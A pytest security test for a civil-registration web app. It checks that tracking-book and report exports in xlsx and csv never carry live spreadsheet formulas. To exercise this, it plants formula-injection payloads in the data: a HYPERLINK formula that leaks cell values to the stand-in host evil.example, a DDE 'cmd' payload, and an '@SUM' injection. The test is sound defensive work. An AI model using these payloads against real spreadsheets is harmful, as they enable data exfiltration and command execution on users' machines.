"""SEC-06: exports (tracking book and reports, xlsx and csv) never carry a live spreadsheet formula."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from core.dossiers.models import Dossier
from core.extensions import db
from core.localtime import today as local_today
from core.tenancy.models import Unit
from tests.web.helpers import APPLICANT, birth_data

EVIL = '=HYPERLINK("http://evil.example/?leak="&E7&F7,"Xem chi tiết")'


def _cells_xlsx(data: bytes) -> list:
    ws = load_workbook(io.BytesIO(data)).active
    return [cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]


def test_tracking_book_and_report_exports_neutralise_formulas(app, client, factory, desk):
    # Names are letters only since DAY-12, but rows written before (or by an import) may hold anything.
    applicant = dict(APPLICANT, address="+cmd|' /C calc'!A0")
    response = client.post("/api/v1/units/xa-a/dossiers", json={
        "procedure": "civil_status.birth_registration", "channel": "online", "applicant": applicant,
        "data": birth_data()})
    assert response.status_code == 201, response.get_json()
    code = response.get_json()["code"]
    assert client.post(f"/api/v1/dossiers/{code}/actions", json={"action": "receive"},
                       headers=factory.token(client, "a.tiepnhan")).status_code == 200
    with app.app_context():  # a unit named by its administrator, an applicant recorded before the name rule
        db.session.scalar(select(Unit).where(Unit.slug == "xa-a")).name = "@SUM(1+1)*cmd"
        db.session.scalar(select(Dossier).where(Dossier.code == code)).applicant_name = EVIL
        db.session.commit()
    factory.login(client, "huyen.admin")
    today = local_today().isoformat()  # the app's day is Vietnam's: from 17:00 UTC it is tomorrow

    book = client.get(f"/xa-a/tracking-book.xlsx?from={today}&to={today}")
    assert book.status_code == 200
    cells = _cells_xlsx(book.data)
    assert EVIL in [c.value for c in cells]  # kept as typed, for the reader …
    assert all(c.data_type != "f" for c in cells)  # … but as text, never a formula

    text = client.get(f"/xa-a/tracking-book.csv?from={today}&to={today}").data.decode("utf-8")[1:]
    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert "'" + EVIL in values and "'+cmd|' /C calc'!A0" in " ".join(values)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)

    report = client.get(f"/huyen-test/reports/export.xlsx?from={today}&to={today}&by=unit")
    assert report.status_code == 200
    cells = _cells_xlsx(report.data)
    assert any(c.value.startswith("@SUM") for c in cells) and all(c.data_type != "f" for c in cells)
    text = client.get(f"/huyen-test/reports/export.csv?from={today}&to={today}&by=unit").data.decode("utf-8")[1:]
    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert any(v.startswith("'@SUM") for v in values)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)
